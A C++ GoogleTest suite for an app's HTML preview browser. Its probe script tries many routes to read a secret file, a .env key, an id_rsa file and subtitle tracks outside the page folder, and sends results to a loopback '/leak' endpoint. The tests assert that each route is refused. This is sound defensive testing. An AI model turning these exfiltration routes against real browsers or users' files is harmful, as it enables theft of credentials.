// The preview's security model, end to end: a probe page with a secret file and a picture beside
// it, a web server on loopback that counts connections, each route tried online and offline.
#include <gtest/gtest.h>

#include <QDir>
#include <QFile>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include "browser/WebBrowser.h"
#include "tests/support/BrowserSupport.h"
#include "tests/support/LoopbackServer.h"
#include "tests/support/TestSupport.h"

namespace {

const QByteArray Secret = "vorn-secret-4711";
const char Font[] = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf";

// Script helpers of the probe page; each returns a promise of what its route produced.
const QByteArray ProbeScript = R"(
const frameMessages = [], errors = [];
addEventListener('message', e => frameMessages.push(String(e.data)));
addEventListener('error', e => errors.push(String(e.message)), true);
function race(promise) { return Promise.race([promise, new Promise((_, fail) => setTimeout(() => fail('timeout'), 4000))]); }
function text(url) { return fetch(url).then(r => r.text()); }
function xhr(url) {
  return new Promise((done, fail) => {
    const x = new XMLHttpRequest(); x.open('GET', url);
    x.onload = () => done(x.responseText); x.onerror = () => fail('error'); x.send();
  });
}
function frame(url) {
  return race(new Promise(done => {
    const f = document.createElement('iframe'); f.onload = () => done(f); f.src = url;
    document.body.appendChild(f);
  })).then(f => f.contentDocument.body.innerText);
}
function picture(url) {
  return race(new Promise((done, fail) => {
    const i = new Image(); i.onload = () => done(i); i.onerror = () => fail('error'); i.src = url;
  }));
}
function pixels(url) {
  return picture(url).then(i => {
    const c = document.createElement('canvas'); c.width = 4; c.height = 4;
    const g = c.getContext('2d'); g.drawImage(i, 0, 0);
    return Array.from(g.getImageData(0, 0, 1, 1).data).join(',');
  });
}
function worker(url) {
  const source = `fetch('${url}').then(r => r.text()).then(t => postMessage(t), e => postMessage('refused'))`;
  return race(new Promise(done => {
    const w = new Worker(URL.createObjectURL(new Blob([source])));
    w.onmessage = e => done(e.data); w.onerror = () => done('refused');
  }));
}
function script(url, type) {
  return race(new Promise(done => {
    const s = document.createElement('script'); if (type) s.type = type;
    s.onload = () => done('loaded'); s.onerror = () => done('refused'); s.src = url;
    document.head.appendChild(s);
  })).then(v => v + ' ' + errors.join());
}
function track(url) {
  return race(new Promise(done => {
    const v = document.createElement('video'), t = document.createElement('track');
    t.kind = 'subtitles'; t.default = true; t.src = url;
    t.onload = () => done(Array.from(t.track.cues || []).map(c => c.text).join());
    t.onerror = () => done('refused');
    v.appendChild(t); document.body.appendChild(v);
  }));
}
function sheet(url) {
  return race(new Promise(done => {
    const l = document.createElement('link'); l.rel = 'stylesheet';
    l.onload = () => done('loaded'); l.onerror = () => done('refused'); l.href = url;
    document.head.appendChild(l);
  }));
}
function font(url) { const f = new FontFace('f' + Math.random(), `url(${url})`); return race(f.load()).then(f => f.status); }
function socket(url) {
  return race(new Promise((done, fail) => {
    const s = new WebSocket(url); s.onmessage = e => done(e.data); s.onerror = () => fail('error');
  }));
}
function hint(rel, url) {
  const l = document.createElement('link'); l.rel = rel; l.href = url; document.head.appendChild(l);
  return new Promise(done => setTimeout(() => done('hinted'), 1000));
}
function peer(url, inFrame) {
  let Peer = window.RTCPeerConnection;
  if (inFrame) { const f = document.createElement('iframe'); document.body.appendChild(f); Peer = f.contentWindow.RTCPeerConnection; }
  const p = new Peer({iceServers: [{urls: url, username: 'u', credential: 'p'}]});
  p.createDataChannel('d');
  return p.createOffer().then(o => p.setLocalDescription(o)).then(() => new Promise(done => setTimeout(() => done('gathered'), 2000)));
}
)";

class PreviewSecurityTest : public testing::Test {
protected:
  void SetUp() override {
    WriteFileBytes(Local("secret.txt"), Secret);
    WritePicture(Local("secret.png"));
    WriteFileBytes(Local("site.css"), "p { color: rgb(7, 8, 9); }");
    WriteFileBytes(Local("app.js"), "window.appRan = 'app ran';");
    WriteFileBytes(Local("module.js"), "window.moduleRan = 'module ran';");
    QFile::copy(Font, Local("font.ttf"));
    WriteFileBytes(Local("frame.htm"), "<script>parent.postMessage('local frame', '*')</script>");
    WriteFileBytes(Local("page.vnx"),
                   "<!DOCTYPE html><html><head><title>Probe</title><script>" + ProbeScript +
                       "</script></head><body><p id=p>text</p><a id=link>link</a></body></html>");
    FServer.Serve("/remote.png", "image/png", ReadFileBytes(Local("secret.png")));
    FServer.Serve("/remote.css", "text/css", "p { color: rgb(4, 5, 6); }");
    FServer.Serve("/remote.js", "text/javascript", "window.remoteScript = 'remote ran';");
    FServer.Serve("/remote.ttf", "font/ttf", ReadFileBytes(Font));
    FServer.Serve("/frame.html", "text/html", "<script>parent.postMessage('remote frame', '*')</script>");
    FServer.Serve("/remote.html", "text/html", "<title>Remote</title>");
  }

  QString Local(const QString& name) const { return FFolder.filePath(name); }
  QString FileUrl(const QString& name) const { return "file://" + Local(name); }
  QString LocalUrl(const QString& name) const { return "vornfile:" + Local(name); }
  QString Remote(const char* scheme, const char* path) const {
    return QString::fromLatin1(FServer.Url(scheme, path));
  }
  QString ServerPort() const { return QString::number(QUrl(Remote("http", "/")).port()); }

  void ShowProbe() {
    FBrowser.Navigate(Local("page.vnx"));
    ASSERT_TRUE(WaitForLoad(FBrowser));
    ASSERT_EQ(FBrowser.title(), "Probe");
  }

  // Runs one route in the page and gives "ok: <result>" or "refused: <error>".
  QString Attempt(const QString& route) {
    RunScript(
        FBrowser,
        "window.outcome = undefined; (async () => " + route +
            ")().then(v => { window.outcome = 'ok: ' + v; }, e => { window.outcome = 'refused: ' + e; });");
    QVariant outcome;
    const bool ended =
        QTest::qWaitFor([&] { return (outcome = RunScript(FBrowser, "window.outcome")).isValid(); }, 15000);
    return ended ? outcome.toString() : QStringLiteral("never ended");
  }

  // Clicks a link in the page to url; gives whether the page it leads to loaded.
  bool Follow(const QString& url) {
    QSignalSpy loads(&FBrowser, &QWebEngineView::loadFinished);
    RunScript(FBrowser, "const a = document.getElementById('link'); a.href = '" + url + "'; a.click();");
    if (!QTest::qWaitFor([&] { return loads.count() > 0; }, 20000)) return false;
    return loads.first().at(0).toBool();
  }

  // The routes by which script could read the secret file or the picture.
  QStringList ReadRoutes() const {
    return {"text('secret.txt')",
            "text('" + LocalUrl("secret.txt") + "')",
            "text('" + FileUrl("secret.txt") + "')",
            "text('" + FileUrl("") + "')",
            "text('" + LocalUrl("") + "')",
            "xhr('secret.txt')",
            "xhr('" + FileUrl("secret.txt") + "')",
            "frame('secret.txt')",
            "frame('" + FileUrl("") + "')",
            "worker('" + LocalUrl("secret.txt") + "')",
            "worker('" + FileUrl("secret.txt") + "')",
            "script('secret.txt')",
            "pixels('secret.png')",
            "pixels('" + FileUrl("secret.png") + "')"};
  }

  QTemporaryDir FFolder;
  TLoopbackServer FServer;
  TWebBrowser FBrowser;
};

TEST_F(PreviewSecurityTest, APageUsesTheFilesBesideItButItsScriptReadsNone) {
  ShowProbe();
  EXPECT_EQ(Attempt("picture('secret.png').then(i => i.naturalWidth)"), "ok: 4");
  EXPECT_EQ(Attempt("script('app.js').then(v => v + window.appRan)"), "ok: loaded app ran");
  EXPECT_EQ(Attempt("script('module.js', 'module').then(v => v + window.moduleRan)"),
            "ok: loaded module ran");
  EXPECT_EQ(Attempt("sheet('site.css').then(v => v + getComputedStyle(p).color)"), "ok: loadedrgb(7, 8, 9)");
  EXPECT_EQ(Attempt("font('font.ttf')"), "ok: loaded");
  EXPECT_EQ(Attempt("frame('frame.htm').catch(() => '').then(() => frameMessages.join())"),
            "ok: local frame");

  for (const QString& route : ReadRoutes()) {
    const QString outcome = Attempt(route);
    EXPECT_FALSE(outcome.isEmpty()) << route.toStdString();
    EXPECT_FALSE(outcome.contains(Secret)) << route.toStdString();
    EXPECT_FALSE(outcome.contains("255,0,0")) << route.toStdString();
  }
}

TEST_F(PreviewSecurityTest, OnlineRemoteResourcesOfEveryKindLoadAndNothingLocalIsSentOut) {
  ShowProbe();
  EXPECT_EQ(Attempt("picture('" + Remote("http", "/remote.png") + "').then(i => i.naturalWidth)"), "ok: 4");
  EXPECT_EQ(
      Attempt("sheet('" + Remote("http", "/remote.css") + "').then(v => v + getComputedStyle(p).color)"),
      "ok: loadedrgb(4, 5, 6)");
  EXPECT_EQ(Attempt("script('" + Remote("http", "/remote.js") + "').then(v => v + window.remoteScript)"),
            "ok: loaded remote ran");
  EXPECT_EQ(Attempt("font('" + Remote("http", "/remote.ttf") + "')"), "ok: loaded");
  EXPECT_EQ(Attempt("frame('" + Remote("http", "/frame.html") +
                    "').catch(() => '').then(() => frameMessages.join())"),
            "ok: remote frame");
  EXPECT_EQ(Attempt("socket('" + Remote("ws", "/socket") + "')"), "ok: hello");
  const int beforeTls = FServer.Connections();
  Attempt("picture('" + Remote("https", "/remote.png") + "')");
  Attempt("socket('" + Remote("wss", "/socket") + "')");
  EXPECT_GE(FServer.Connections(), beforeTls + 2);  // the handshakes reach the server

  for (const QString& route : ReadRoutes())
    Attempt(route + ".catch(e => 'refused ' + e).then(v => picture('" + Remote("http", "/leak") +
            "?' + encodeURIComponent(v)).catch(() => v))");
  for (const QByteArray& request : FServer.Requests())
    EXPECT_FALSE(request.contains(Secret)) << request.constData();

  EXPECT_TRUE(Follow(Remote("http", "/remote.html")));
  EXPECT_EQ(FBrowser.title(), "Remote");
}

TEST_F(PreviewSecurityTest, OfflineNoConnectionOfAnyKindLeavesTheProgram) {
  FBrowser.SetOffline(true);
  EXPECT_TRUE(FBrowser.Offline());
  ShowProbe();
  const QString port = ServerPort();
  const QStringList routes = {
      "picture('" + Remote("http", "/remote.png") + "')",
      "picture('" + Remote("https", "/remote.png") + "')",
      "picture('" + Remote("ftp", "/remote.png") + "')",
      "sheet('" + Remote("http", "/remote.css") + "')",
      "script('" + Remote("http", "/remote.js") + "')",
      "font('" + Remote("http", "/remote.ttf") + "')",
      "frame('" + Remote("http", "/frame.html") + "')",
      "text('" + Remote("http", "/remote.css") + "')",
      "socket('" + Remote("ws", "/socket") + "')",
      "socket('" + Remote("wss", "/socket") + "')",
      "hint('prefetch', '" + Remote("http", "/remote.css") + "')",
      "hint('preconnect', '" + Remote("http", "/") + "')",
      "Promise.resolve(navigator.sendBeacon('" + Remote("http", "/beacon") + "', 'x'))",
      "peer('turn:127.0.0.1:" + port + "?transport=tcp')",
      "peer('stun:127.0.0.1:" + port + "')",
      // A frame made in the same turn still holds a peer connection: the network gate stops it.
      "peer('stun:127.0.0.1:" + port + "', true)",
      "peer('turn:127.0.0.1:" + port + "?transport=udp', true)",
      "peer('turn:127.0.0.1:" + port + "?transport=tcp', true)",
  };
  // Each route has ended, refused, before the next begins: a connection it made would be counted.
  for (const QString& route : routes) Attempt(route);
  EXPECT_FALSE(Follow(Remote("http", "/remote.html")));
  EXPECT_EQ(FServer.Connections(), 0);
  EXPECT_EQ(FServer.Datagrams(), 0);
  EXPECT_NE(FBrowser.title(), "Remote");

  FBrowser.SetOffline(false);
  ShowProbe();
  EXPECT_EQ(Attempt("socket('" + Remote("ws", "/socket") + "')"), "ok: hello");
}

TEST_F(PreviewSecurityTest, GoingOfflineReloadsALocalPageSoItsOpenConnectionsClose) {
  ShowProbe();
  EXPECT_EQ(
      Attempt("socket('" + Remote("ws", "/socket") + "').then(() => { window.before = 1; return 'open'; })"),
      "ok: open");
  FBrowser.SetOffline(true);
  ASSERT_TRUE(WaitForLoad(FBrowser));
  EXPECT_EQ(RunScript(FBrowser, "String(window.before)").toString(), "undefined");
  EXPECT_EQ(RunScript(FBrowser, "typeof RTCPeerConnection").toString(), "undefined");
}

TEST_F(PreviewSecurityTest, ARemotePageCannotReachLocalFiles) {
  FServer.Serve("/hostile.html", "text/html",
                "<title>Hostile</title><a id=link>x</a><script>" + ProbeScript + "</script>");
  FBrowser.load(QUrl(Remote("http", "/hostile.html")));
  ASSERT_TRUE(WaitForLoad(FBrowser));
  EXPECT_NE(Attempt("picture('" + LocalUrl("secret.png") + "').then(i => i.naturalWidth)"), "ok: 4");
  EXPECT_NE(
      Attempt("frame('" + LocalUrl("frame.htm") + "').catch(() => '').then(() => frameMessages.join())"),
      "ok: local frame");
  EXPECT_FALSE(Attempt("text('" + LocalUrl("secret.txt") + "')").contains(Secret));
  EXPECT_FALSE(Follow(LocalUrl("secret.txt")));
  EXPECT_FALSE(RunScript(FBrowser, "document.documentElement.innerText").toString().contains(Secret));
}

// Hostile references into the user's files: a link named as a script that leads to a .env
// file, a subtitle track in another folder, a frame and an object showing a text file outside
// the page's folder, and a download link. Nothing of the files reaches the page's script or the
// server, online or offline, and the preview stays on the page.
TEST_F(PreviewSecurityTest, HostileReferencesIntoTheUsersFilesGiveThePageNothing) {
  QTemporaryDir elsewhere;
  const QByteArray key = "sk_live_vorn_secret_4711";
  WriteFileBytes(Local(".env"), key + "\n");
  ASSERT_TRUE(QFile::link(Local(".env"), Local("env.js")));
  WriteFileBytes(elsewhere.filePath("notes.vtt"), "WEBVTT\n\n00:00.000 --> 00:09.000\n" + key + "\n");
  WriteFileBytes(elsewhere.filePath("id_rsa.txt"), key);
  for (const bool offline : {false, true}) {
    FBrowser.SetOffline(offline);
    ShowProbe();
    const QStringList routes{
        "script('env.js')",
        "track('" + LocalUrl("../" + QDir(FFolder.path()).relativeFilePath(elsewhere.filePath("notes.vtt"))) +
            "')",
        "track('vornfile:" + elsewhere.filePath("notes.vtt") + "')",
        "frame('vornfile:" + elsewhere.filePath("id_rsa.txt") + "')",
        "race(new Promise(done => { const o = document.createElement('object'); o.onload = o.onerror = () => "
        "done(String(o.contentDocument && o.contentDocument.body.innerText)); o.data = 'vornfile:" +
            elsewhere.filePath("id_rsa.txt") + "'; document.body.appendChild(o); }))",
    };
    for (const QString& route : routes) {
      const QString outcome =
          Attempt(route + ".catch(e => 'refused ' + e).then(v => v + ' ' + errors.join())");
      EXPECT_FALSE(outcome.contains("sk_live")) << route.toStdString() << ": " << outcome.toStdString();
      Attempt("picture('" + Remote("http", "/leak") +
              "?' + encodeURIComponent(window.outcome)).catch(() => 0)");
    }
    // A link to the text file, a download or not, leads nowhere: the preview stays on the page.
    QSignalSpy started(&FBrowser, &QWebEngineView::loadStarted);
    for (const char* download : {"true", "false"})
      RunScript(FBrowser, QString("const d = document.createElement('a'); if (%1) d.download = ''; "
                                  "d.href = 'secret.txt'; document.body.appendChild(d); d.click();")
                              .arg(download));
    EXPECT_FALSE(started.wait(1000));  // a navigation would start within that
    EXPECT_EQ(FBrowser.title(), "Probe");
  }
  for (const QByteArray& request : FServer.Requests())
    EXPECT_FALSE(request.contains("sk_live")) << request.constData();
}

}  // namespace
